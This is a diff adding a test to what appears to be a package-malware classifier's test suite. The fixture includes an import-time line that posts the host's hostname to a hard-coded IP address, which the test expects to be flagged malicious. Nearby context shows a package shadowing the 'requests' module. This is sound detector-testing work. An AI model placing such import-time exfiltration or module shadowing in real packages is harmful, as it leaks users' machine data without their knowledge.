@@ -500,3 +500,15 @@ def test_a_module_shadows_only_under_the_name_python_imports(judged):
     v = judged(sdist("netutils-extra", {"setup.py": SETUP_TAIL, "src/requests/__init__.py": "X = 1",
                                         "netutils_extra.dist-info/METADATA": "Name: netutils-extra\n"}), P, "netutils-extra")
     assert rule in v["rules_fired"], v
+
+
+
+def test_naming_its_own_server_by_address_at_import_is_for_review_calling_out_is_not(judged):
+    # oixa_protocol/__init__.py (abridged): the service's address in the docstring and a default
+    sdk = ('"""OIXA client.\n\n    tools = OIXAToolkit(base_url="http://198.51.100.34:8000").get_tools()\n'
+           'Server: http://198.51.100.34:8000\n"""\nOIXA_BASE_URL = "http://198.51.100.34:8000"\n')
+    v = judged(sdist("pkg", {"setup.py": SETUP_TAIL, "pkg/__init__.py": sdk}), P, "pkg")
+    assert "STATIC-IP-URL-INSTALL" in v["rules_fired"] and v["label"] == "benign", v
+    v = judged(sdist("pkg", {"setup.py": SETUP_TAIL, "pkg/__init__.py": sdk + "import requests, socket\n"
+                             "requests.post(\"http://198.51.100.34:8000/c\", data=socket.gethostname())\n"}), P, "pkg")
+    assert v["label"] == "malicious", v
